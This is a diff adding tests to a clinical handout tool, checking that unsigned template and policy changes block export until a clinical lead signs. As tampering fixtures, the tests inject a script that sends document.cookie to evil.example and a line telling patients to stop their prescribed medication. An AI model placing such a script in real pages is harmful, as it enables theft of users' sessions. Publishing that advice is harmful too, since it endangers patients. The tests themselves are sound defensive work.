@@ -126,3 +126,95 @@ def test_a_changed_entry_inside_a_handout_changes_its_printed_version(kb: Truste
     assert second in metadata2["/Keywords"]
     assert metadata2["/CreationDate"] == "D:20260401090000Z"  # the newest approval inside
     assert "Cat-cow stretch: reviewed by Rita Reviewer, PT on 2026-04-01" in html2
+
+
+# --- Cases 3 and 4: templates and policy are signed by the leads ------------------------
+
+
+def _trusted_export(kb: TrustedKb, out: Path) -> Result:
+    return kb.cli("export", "--out", out, "--require-trust", "--first-export", "--allow-empty")
+
+
+def _override_template(kb: TrustedKb, name: str, old: str, new: str) -> None:
+    from carekb.project import PACKAGED_TEMPLATES
+
+    text = (PACKAGED_TEMPLATES / name).read_text(encoding="utf-8")
+    assert old in text, f"{old!r} not in {name}"
+    target = kb.root / "templates" / name
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+
+SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
+
+
+def test_a_template_nobody_signed_is_refused_by_name_until_a_lead_signs(kb: TrustedKb, tmp_path):
+    kb.request_and_approve("move-gently", "rev-b")
+    kb.request_and_approve("cat-cow", "rev-a")
+    _override_template(kb, "html/base.html", "<head>", "<head>\n" + SCRIPT)
+    _override_template(
+        kb,
+        "html/entry.html",
+        "{% block content %}",
+        "{% block content %}<p>Stop taking your prescribed medication.</p>",
+    )
+    messages = kb.messages("governance")
+    assert any(
+        m.startswith("templates/html/base.html was changed after the clinical leads signed")
+        for m in messages
+    ), messages
+    assert any(m.startswith("templates/html/entry.html was changed") for m in messages), messages
+
+    out = tmp_path / "site"
+    refused = _trusted_export(kb, out)
+    assert refused.exit_code == 1, refused.output
+    assert "refused: the settings and templates are not the ones the clinical leads signed" in (
+        refused.output
+    )
+    assert "templates/html/base.html was changed" in refused.output
+    assert not out.exists()
+    verify = kb.ok("roster", "verify").output
+    assert "settings and templates: NOT as the leads signed them" in verify
+    assert "templates/html/entry.html was changed" in verify
+
+    # A lead reads the change and signs it: then it is theirs, and it is published.
+    kb.sign_roster("lead-l")
+    assert kb.messages("governance") == []
+    published = _trusted_export(kb, out)
+    assert published.exit_code == 0, published.output
+    assert (
+        "Stop taking your prescribed medication."
+        in (out / "html" / "techniques" / "cat-cow.html").read_text()
+    )
+
+
+def test_policy_and_organisation_changes_are_refused_but_output_paths_are_not(
+    kb: TrustedKb, tmp_path
+):
+    kb.request_and_approve("move-gently", "rev-b")
+    kb.request_and_approve("cat-cow", "rev-a")
+    config = kb.root / "carekb.yaml"
+    signed = config.read_text(encoding="utf-8")
+    config.write_text(signed.replace("review_interval_days: 365", "review_interval_days: 1825"))
+    refused = _trusted_export(kb, tmp_path / "a")
+    assert refused.exit_code == 1
+    assert "carekb.yaml was changed after the clinical leads signed" in refused.output
+
+    config.write_text(signed.replace('name: "My clinic"', 'name: "Another clinic"'))
+    assert _trusted_export(kb, tmp_path / "b").exit_code == 1
+
+    # Where files go is operational, not governance.
+    config.write_text(signed.replace("  out: exports", "  out: public"))
+    assert kb.messages("governance") == []
+    assert _trusted_export(kb, tmp_path / "c").exit_code == 0
+
+
+def test_a_signed_template_change_changes_the_printed_version(kb: TrustedKb, tmp_path):
+    _signed_handout(kb)
+    first = _version(_printed(kb, tmp_path / "v1", "2026-03-02T09:00:00Z")[0])
+    _override_template(
+        kb, "handout/handout.html", "<h2>About this handout</h2>", "<h2>About this leaflet</h2>"
+    )
+    kb.sign_roster("lead-l", now="2026-03-02T10:00:00Z")
+    second = _version(_printed(kb, tmp_path / "v2", "2026-03-03T09:00:00Z")[0])
+    assert second != first  # same entries, other words around them: another printed version
